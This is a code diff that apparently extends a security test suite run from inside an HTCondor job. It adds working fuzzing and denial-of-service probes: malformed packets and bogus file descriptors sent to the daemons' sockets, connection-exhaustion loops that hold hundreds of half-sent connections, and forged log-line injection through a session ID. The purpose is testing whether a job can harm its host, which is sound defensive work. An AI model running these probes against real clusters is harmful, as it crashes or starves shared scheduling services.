@@ -11,7 +11,7 @@ from contextlib import suppress
 from pathlib import Path
 
 from .network import listening, own_address
-from .tools import attack, files_in, processes
+from .tools import attack, files_in, processes, text
 
 METRICS = 9464
 CLAIM = re.compile(rb"<[0-9][^>\s]*>#[0-9]{8,}#[0-9]+#(?!\.\.\.)")
@@ -20,14 +20,22 @@ TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
 CHIRP = "/usr/libexec/condor/condor_chirp"
 
 
+def ports() -> list[int]:
+    """TCP ports of HTCondor's daemons: the master, the startd and the job's starter have one each."""
+    found = [port for address, port in listening() if port != METRICS and not address.startswith("127.")]
+    assert len(found) >= 3, f"not all daemons listen ({found}), so this shows nothing"
+    return found
+
+
 def daemons() -> list[str]:
-    """Addresses of all that can be commanded: behind the shared port, and by themselves."""
-    ports = [port for address, port in listening() if port != METRICS and not address.startswith("127.")]
-    names = sorted(set(re.findall(r"@[0-9a-f]{64}/(\S+)", Path("/proc/net/unix").read_text(errors="replace"))))
-    assert ports, "no daemon listens, so this shows nothing"
-    assert any(name.startswith("master") for name in names), "the master was not found, so this shows nothing"
-    asked = [f"?sock={name}" for name in names]
-    return [f"<{own_address()}:{port}{which}>" for port in ports for which in ("", *asked)]
+    """Addresses of all that can be commanded."""
+    return [f"<{own_address()}:{port}>" for port in ports()]
+
+
+def abstract_names() -> list[str]:
+    """Abstract sockets of the pod by which HTCondor's daemons could be reached, as they are behind a shared port."""
+    listed = Path("/proc/net/unix").read_text(errors="replace")
+    return sorted(set(re.findall(r"@([0-9a-f]{64}/\S+)", listed)))
 
 
 @attack
@@ -117,15 +125,79 @@ def words_in_the_logs() -> list[str]:
     """Whoever reaches a daemon has words of its own in its log: of a session that the daemon does not know."""
     end = "The STARTD (pid 1) exited with status 99 (daemon will not restart automatically)"
     for words in (end, f"x\n11/22/26 03:00:00.000 (pid:1) {end}", 'OfflineUniverses are now { "Docker" }'):
-        for where in daemons():
-            host, port, _, name = re.findall(r"<(.*):(\d+)(\?sock=)?(.*)>", where)[0]
-            with suppress(OSError), socket.create_connection((host, int(port)), timeout=3) as one:
-                if name:
-                    one.sendall(_packet(_number(75) + _text(name) + _text("me") + _number(5) + _number(0)))
+        for port in ports():
+            with suppress(OSError), socket.create_connection((own_address(), port), timeout=3) as one:
                 quoted = words.replace('"', '\\"')
                 facts = {"UseSession": '"YES"', "Sid": f'"{quoted}"', "Command": "60011", "ResumeResponse": "true"}
                 one.sendall(_packet(_number(60010) + _ad(facts)))
                 one.recv(1000)
+    return []
+
+
+PASS_SOCK = 76
+"""SHARED_PORT_PASS_SOCK (condor_commands.h): a descriptor for a daemon comes with it."""
+LENGTHS = (8, 0xFFFFFFFF, 0)
+"""Of a packet: as it should be, and not."""
+
+
+@attack
+def nonsense_for_htcondors_daemons() -> list[str]:
+    """Descriptors that are no sockets, and packets that are none, to all sockets of HTCondor: no daemon ends."""
+    before = _pids_of_daemons()
+    pipe, _ = os.pipe()
+    for name in abstract_names():
+        with suppress(OSError), socket.socket(socket.AF_UNIX) as one:
+            one.connect(f"\0{name}")
+            one.sendall(_packet(_number(PASS_SOCK)))
+            socket.send_fds(one, [b"\0"], [pipe])
+            one.settimeout(2)
+            one.recv(100)
+    for port in ports():
+        for length in LENGTHS:
+            for command in (PASS_SOCK, 60010, 60011, 60000, 443, 404, -1, 2**62):
+                with suppress(OSError), socket.create_connection((own_address(), port), timeout=2) as one:
+                    one.sendall(b"\1" + struct.pack(">I", length) + _number(command) + b"\xff\0" * 2000)
+        with suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
+            for packet in (b"", b"MaGic6.0" + b"\xff" * 900, _packet(_number(60011)), os.urandom(60_000)):
+                one.sendto(packet, (own_address(), port))
+    time.sleep(2)  # a daemon that has ended is started again 10 s later
+    return [f"{name} {pid} has ended" for name, pid in before - _pids_of_daemons()]
+
+
+def _pids_of_daemons() -> set[tuple[str, int]]:
+    names = ("condor_master", "condor_startd", "condor_starter")
+    found = {(name, pid) for pid in processes() if (name := text(pid, "comm").strip()) in names}
+    assert {name for name, _ in found} == set(names), f"not all daemons are seen ({found}), so this shows nothing"
+    return found
+
+
+def silence_for_htcondors_daemons() -> list[str]:
+    """Connections that say nothing, or less than they should, to all sockets of HTCondor's, until the job is ended."""
+    held = []
+    for name in abstract_names():
+        for _ in range(3):
+            held.append(one := socket.socket(socket.AF_UNIX))
+            one.connect(f"\0{name}")
+    for port in ports():
+        for words in (b"", b"\1\0\0\0\10", _packet(_number(60010))[:-1], _packet(_number(60010))):
+            for _ in range(60):
+                held.append(one := socket.create_connection((own_address(), port), timeout=3))
+                one.sendall(words)
+    Path("held").write_text(str(len(held)))
+    time.sleep(600)
+    return []
+
+
+def half_a_word_for_htcondors_daemons() -> list[str]:
+    """The first byte of a packet on many connections: a daemon waits for a second for the others of each."""
+    held = []
+    for port in ports():
+        for _ in range(400):
+            with suppress(OSError):
+                held.append(one := socket.create_connection((own_address(), port), timeout=0.1))
+                one.send(b"\1")
+    Path("held").write_text(str(len(held)))
+    time.sleep(600)
     return []
 
 
